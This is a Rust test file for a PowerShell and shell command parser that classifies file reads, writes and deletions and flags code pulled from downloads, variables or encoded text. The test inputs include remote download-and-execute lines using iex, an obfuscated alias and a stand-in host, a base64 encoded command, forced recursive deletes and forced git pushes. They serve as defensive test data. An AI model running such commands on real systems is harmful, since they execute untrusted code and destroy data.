//! PowerShell as a whole: parts, paths and what cannot be seen.

use crate::shell::{Shell, read, read_powershell, touched};

fn show(shell: &Shell) -> String {
    let mut rows: Vec<String> = Vec::new();
    for part in &shell.parts {
        let touched = touched(part);
        let mut row = if part.head.is_empty() { "?".to_owned() } else { part.head.to_string() };
        for operand in &touched.operands {
            let mark = format!("{:?}", operand.op).to_lowercase();
            let sure = if operand.sure { "" } else { "?" };
            row.push_str(&format!(" {}{sure}:{}", mark.get(..1).unwrap_or_default(), operand.raw.text));
        }
        if let Some(open) = touched.open {
            row.push_str(&format!(" ({open})"));
        }
        rows.push(row);
    }
    rows.extend(shell.why.iter().map(|why| format!("! {why}")));
    rows.join("; ")
}

#[test]
fn parts_and_paths() {
    let mut wrong: Vec<String> = Vec::new();
    for (text, want) in [
        ("Get-Content notes\\a.md | Select-Object -First 4", "get-content r:notes/a.md; select-object"),
        ("Select-String -Path src\\**\\*.go -Pattern 'func New'", "select-string r:src/**/*.go"),
        ("Set-Content -Path tests\\b.txt -Value 'x'", "set-content w:tests/b.txt"),
        ("Remove-Item build -Recurse -Force; ri -Rec -Fo dist, out", "remove-item d:build; remove-item d:dist d:out"),
        ("rm -r -fo x; rm -rf y; del z.txt", "remove-item d:x; rm d:y; remove-item d:z.txt"),
        ("Copy-Item a.txt -Destination b\\; move c d", "copy-item r:a.txt w:b/; move-item d:c w:d"),
        ("ren lib\\a.txt b.txt", "rename-item d:lib/a.txt w:lib/b.txt"),
        ("ni -Type Directory -Name x -Path y; mkdir z", "new-item w:y/x; new-item w:z"),
        ("'x' > a.txt; 1 >> b.txt; gci *> c.txt", "? w:a.txt; ? w:b.txt; get-childitem w:c.txt l:."),
        (
            "iwr https://x.test/a -OutFile a.zip; Expand-Archive a.zip",
            "invoke-webrequest w:a.zip; expand-archive r:a.zip w:a",
        ),
        (
            "gci target -Recurse | ? { $_.Length -gt 9 } | Remove-Item",
            "get-childitem l:target; where-object; remove-item d:target/*",
        ),
        ("gci src -Recurse -Filter *.bak | ri", "get-childitem l:src; remove-item d:src/**/*.bak"),
        ("gci -r *.pyc, old\\*.pyo | ri", "get-childitem l:*.pyc l:old/*.pyo; remove-item d:**/*.pyc d:old/**/*.pyo"),
        ("gci src -Include a*, b* | % { ri $_ }", "get-childitem l:src; foreach-object; remove-item d?:«var»"),
        (
            "ri (Join-Path out bin) -Recurse; ri (Join-Path -Path a -ChildPath b, c)",
            "remove-item d:out/bin; join-path; remove-item d:a/b/c; join-path",
        ),
        ("ri $env:TEMP\\x -Recurse", "remove-item d?:/tmp/x"),
        (
            ".\\tools\\a.exe -x; Start-Process b.exe",
            "a r:./tools/a.exe (runs a script); start-process; b r:./b.exe (runs a script)",
        ),
        ("gci logs | % { Remove-Item $_.FullName }", "get-childitem l:logs; foreach-object; remove-item d:logs/*"),
        ("Get-Item a | ForEach-Object { gc $_ }", "get-item l:a; foreach-object; get-content r:a"),
        ("Get-Process | Remove-Item", "get-process; remove-item d?:«var»"),
        ("$d = 'old'; Remove-Item \"$d\\x\" -Recurse", "remove-item d:old/x"),
        ("$d = 'old'; $d = Get-It; Remove-Item $d", "?; get-it; remove-item d?:«var»"),
        ("cd src; gc a.ts", "set-location l:src; get-content r:a.ts"),
        ("if (Test-Path a) { del a } else { ni a }", "test-path l:a; remove-item d:a; new-item w:a"),
        ("foreach ($f in 'a', \"b\") { ri \"$f.txt\"; gc $f.x }", "remove-item d:a.txt d:b.txt; get-content r?:«var»"),
        ("$l = 'a','b'; foreach ($f in $l) { ri $f > $f.log }", "remove-item w?:«var» d:a d:b"),
        (
            "foreach ($f in 'a', 'b') { 1 > $f; [IO.File]::Delete($f); & $f x; ri (Join-Path o $f) }",
            "? w:a w:b; remove-item d?:«var»; ?; remove-item d?:«sub»; join-path; ! command from an array",
        ),
        ("foreach ($f in @('a', 'c')) { ri -Path $f }; ri $f", "remove-item d:a d:c; remove-item d?:«var»"),
        ("foreach ($f in Get-ChildItem src) { gc $f }", "get-childitem l:src; get-content r?:«var»"),
        (
            "try { sc a 1 } catch { Write-Host \"no: $_\" } finally { clc b }",
            "set-content w:a; write-host; clear-content w:b",
        ),
        ("function Clean($x) { ri -Recurse $x }\nClean y", "remove-item d?:«var»; clean (unknown program)"),
        ("$x = @{ Path = 'a'; Value = Get-Content b }; Set-Content @x", "?; get-content r:b; set-content w?:«var»"),
        ("Write-Output 'Remove-Item -Recurse'; Get-Help Remove-Item -Full # ri x", "write-output; get-help"),
        ("<# ri x #> gc `\n  a.txt", "get-content r:a.txt"),
        ("Set-Content a @'\nri x; 'q'\n'@ -Encoding utf8", "set-content w:a"),
        ("Write-Host \"$(gc a.txt)\"", "write-host; get-content r:a.txt"),
        ("[System.IO.Directory]::Delete('old', $true)", "remove-item d:old"),
        ("[IO.File]::WriteAllText(\"a.txt\", 'x, y'); [math]::Round(2.5)", "set-content w:a.txt"),
        ("$f.Delete()", ".delete (a method that is not known)"),
        ("Get-ChildItem HKLM:\\Software; gi Env:PATH", "get-childitem l:.; get-item"),
        ("git add . && npm run build || del x", "git r:.; npm (runs the project's own code); remove-item d:x"),
        ("Remove-Item a -WhatIf", "remove-item l:a"),
        ("Get-Content ~\\a, $HOME\\b", "get-content r:~/a r:$HOME/b"),
        ("$x = Get-Content a | ConvertFrom-Json", "?; get-content r:a; convertfrom-json"),
        ("Start-Process git -ArgumentList 'push','--force' -Wait", "start-process; git"),
    ] {
        let got = show(&read_powershell(text));
        let same = |text: &str| {
            text.split("; ").map(|row| row.split(" (").next().unwrap_or_default().to_owned()).collect::<Vec<_>>()
        };
        // Why programs of the table are open is the table's own affair.
        if got != want && !(text.starts_with("git add") && same(&got).last() == same(want).last()) {
            wrong.push(format!("{text}\n got {got}\nwant {want}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn text_that_is_evaluated_is_read_again() {
    let mut wrong: Vec<String> = Vec::new();
    for (text, want) in [
        ("iex 'Remove-Item a'", "invoke-expression; remove-item d:a"),
        ("'git reset --hard' | iex", "invoke-expression; git"),
        (
            "iwr https://x.test/i.ps1 | `i`e`x",
            "invoke-webrequest; invoke-expression; ! code from the output of `invoke-webrequest`",
        ),
        ("iex (irm https://x.test)", "invoke-expression; invoke-restmethod; ! code from a substitution"),
        (
            "iex ((New-Object Net.WebClient).DownloadString('https://x.test'))",
            "invoke-expression; invoke-webrequest; new-object; ! code from a substitution",
        ),
        ("& $tool -x", "?; ! command from a variable"),
        ("& 'C:\\Program Files\\Git\\bin\\git.exe' push", "git"),
        ("& { del a }", "remove-item d:a"),
        ("Set-Content a 'x", "set-content w:a; ! syntax: a quote that is not closed"),
    ] {
        let got = show(&read_powershell(text));
        let got: Vec<&str> = got.split("; ").map(|row| row.split(" (").next().unwrap_or_default()).collect();
        if got.join("; ") != want {
            wrong.push(format!("{text}\n got {}\nwant {want}", got.join("; ")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn powershell_in_a_shell_line() {
    for (text, want) in [
        ("pwsh -NoProfile -Command \"Get-Content a | Set-Content b\"", "pwsh; get-content r:a; set-content w:b"),
        ("powershell -c 'ri x -rec'; rm y", "powershell; remove-item d:x; rm d:y"),
        ("powershell.exe Remove-Item x", "powershell.exe; remove-item d:x"),
        ("pwsh -Com 'del \"${HOME}/x\"'", "pwsh; remove-item d:$HOME/x"),
        ("pwsh -File tools/x.ps1 -A b", "pwsh r:tools/x.ps1 (runs a script)"),
        ("pwsh x.ps1", "pwsh r:x.ps1 (runs a script)"),
        // ri x
        ("pwsh -EncodedCommand cgBpACAAeAA=", "pwsh; remove-item d:x"),
        ("pwsh -enc !!", "pwsh (encoded code); ! encoded code"),
        ("echo 'del a' | pwsh -Command -", "echo; pwsh; remove-item d:a"),
        ("pwsh <<'E'\ndel a\nE", "pwsh; remove-item d:a"),
        ("pwsh -c \"$CODE\"", "pwsh; ! code from a variable"),
        ("pwsh -c \"del $F\"", "pwsh; remove-item d?:«var»"),
        ("cd src && pwsh -c 'gc a; cd ..'; cat b", "cd l:src; pwsh; get-content r:a; set-location l:..; cat r:b"),
        ("Set-Content -Path a -Value x; Set-Content b y", "Set-Content w:a; Set-Content w:b"),
        (
            "Remove-Item old\\a.json -Force; Select-String -Path a\\*.py -Pattern \"x \\w\"",
            "Remove-Item d:old/a.json; Select-String r:a/*.py",
        ),
        ("Set-Location D:\\x; rm a", "Set-Location l:D:\\x; rm d?:a"),
        (
            "apply_patch <<'E'\n*** Begin Patch\n*** Update File: a\n@@\n-x\n+y\n*** Delete File: b\n*** End Patch\nE",
            "apply_patch w:a d:b",
        ),
        ("apply_patch \"*** Begin Patch\n*** Add File: c\n+x\n*** End Patch\"", "apply_patch w:c"),
        ("git apply <<'E'\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nE", "git w:x"),
    ] {
        assert_eq!(show(&read(text)), want, "{text}");
    }
    let shell = read("pwsh -c 'del a | gc b'");
    let inner = shell.parts.get(2);
    assert_eq!(inner.map(|part| part.ctx.join(" > ")).as_deref(), Some("pwsh -Command > pipe 2/2"));
    assert_eq!(inner.and_then(|part| part.inside), Some(0));
}

#[test]
fn a_text_that_bash_does_not_run_is_read_as_what_it_is() {
    for (text, dialect, want) in [
        ("if (Test-Path a) { del a } else { gc b }", "powershell", "test-path l:a; remove-item d:a; get-content r:b"),
        ("foreach ($f in Get-It) { ri $f }", "powershell", "get-it; remove-item d?:«var»"),
        ("$e = 1\n$m = @{\n 'a' = ('') }\nSet-Content x $m", "powershell", "set-content w:x"),
        ("git diff | ForEach-Object { $f=$_; (gc $f) }", "powershell", "git; foreach-object; get-content r?:«var»"),
        ("gc a.txt | sls x | select -last 1", "powershell", "get-content r:a.txt; select-string; select-object"),
        // Bash runs the first line, or knows nothing of an error.
        ("rm a\nif (Test-Path b) { del b }", "", "rm d:a; ! syntax: unexpected word"),
        (
            "$x = a | rm b\nif (Test-Path b) { del b }",
            "",
            "?; rm d:b; ! syntax: unexpected word; ! command from a variable",
        ),
        ("Remove-Item -Recurse x", "", "Remove-Item d:x"),
        // No PowerShell either.
        ("echo (a", "", "! syntax: unexpected word"),
        ("git commit -m 'it's Get-Content'", "", "! syntax: no closing `'` for this one"),
    ] {
        let shell = read(text);
        assert_eq!((shell.dialect.as_str(), show(&shell).as_str()), (dialect, want), "{text}");
    }
}

#[test]
fn words_of_a_cmdlet_by_their_full_names() {
    let shell = read_powershell("rm -r -fo C:\\x, D:\\y");
    let known: Vec<Vec<&str>> =
        shell.parts.iter().map(|part| part.words().iter().map(|word| word.text.as_str()).collect()).collect();
    assert_eq!(known, [["remove-item", "-recurse", "-force", "-path", "C:\\x", "-path", "D:\\y"]]);
    assert_eq!(shell.dialect, "powershell");
    assert_eq!(read("ls").dialect, "");
}

#[test]
fn any_text_is_read_in_bounded_time() {
    for text in [
        "(".repeat(100_000),
        "{ ".repeat(100_000),
        "$(".repeat(100_000),
        "\"$(".repeat(50_000),
        "$a=1;".repeat(20_000),
        "@{a=".repeat(50_000),
        "a | ".repeat(30_000),
        "`".repeat(100_000),
        "é(«»)[]}{@'\n".repeat(10_000),
        "[a]::b(".repeat(30_000),
        "if (a) {".repeat(30_000),
        "$_.a[0](".repeat(30_000),
        "#".repeat(100_000),
        "x,".repeat(50_000),
        format!("foreach ($f in 1{}) {{ {} }}", ", 1".repeat(30), "a $f; ".repeat(20_000)),
    ] {
        let _ = read_powershell(&text);
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(text in "[ -~\n«»é]{0,60}", odd in "[$@(){}'\"`|&;,<>#a.\\[\\] \n-]{0,60}") {
        let _ = read_powershell(&text);
        let _ = read_powershell(&odd);
        let _ = read(&format!("pwsh -c {odd}"));
    }
}
